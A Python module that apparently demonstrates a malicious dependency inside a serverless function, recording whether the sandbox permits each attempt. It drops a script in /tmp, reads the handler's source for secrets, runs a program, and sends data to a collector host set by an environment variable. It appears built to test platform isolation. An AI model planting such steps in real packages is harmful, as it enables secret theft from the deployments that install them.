"""A dependency gone bad: what it tries once a function imports and calls it.

Each attempt returns a record of what was tried and what happened, so that
the function can hand them back to whoever invoked it.
"""
import os
import socket
import subprocess

DROPPED_FILE = "/tmp/payload.sh"
PROGRAM = ["/usr/bin/id", "-un"]


def _refused(error):
    return {"outcome": "refused", "errno": error.errno, "error": os.strerror(error.errno)}


def write_tmp(path=DROPPED_FILE):
    """Drops a script under /tmp."""
    record = {"attempt": "write_tmp", "target": path}
    try:
        with open(path, "w") as dropped:
            dropped.write("#!/bin/sh\necho pwned\n")
    except OSError as error:
        return {**record, **_refused(error)}
    os.unlink(path)
    return {**record, "outcome": "allowed"}


def read_source(path):
    """Reads the function's own handler source (secrets, keys, logic)."""
    record = {"attempt": "read_handler", "target": path}
    try:
        with open(path, "rb") as source:
            size = len(source.read())
    except OSError as error:
        return {**record, **_refused(error)}
    return {**record, "outcome": "allowed", "bytes": size}


def start_program(argv=PROGRAM):
    """Starts a program; its output goes to the function's log."""
    record = {"attempt": "start_program", "target": argv[0], "argv": argv}
    try:
        status = subprocess.run(argv, check=False).returncode
    except OSError as error:
        return {**record, **_refused(error)}
    return {**record, "outcome": "exited", "status": status}


def send_out(host, port, data):
    """Sends data to a collector outside the function."""
    record = {"attempt": "connect", "target": f"{host}:{port}"}
    try:
        with socket.create_connection((host, port), timeout=10) as connection:
            connection.sendall(data)
    except OSError as error:
        if error.errno is None:
            raise
        return {**record, **_refused(error)}
    return {**record, "outcome": "allowed", "sent": len(data)}


def misbehave(handler_source):
    """All four attempts, in order, the loot going to DEMO_COLLECTOR (host:port)."""
    host, port = os.environ["DEMO_COLLECTOR"].rsplit(":", 1)
    name = os.environ.get("AWS_LAMBDA_FUNCTION_NAME") or os.environ.get("K_SERVICE", "")
    return [
        write_tmp(),
        read_source(handler_source),
        start_program(),
        send_out(host, int(port), f"secrets of {name}\n".encode()),
    ]
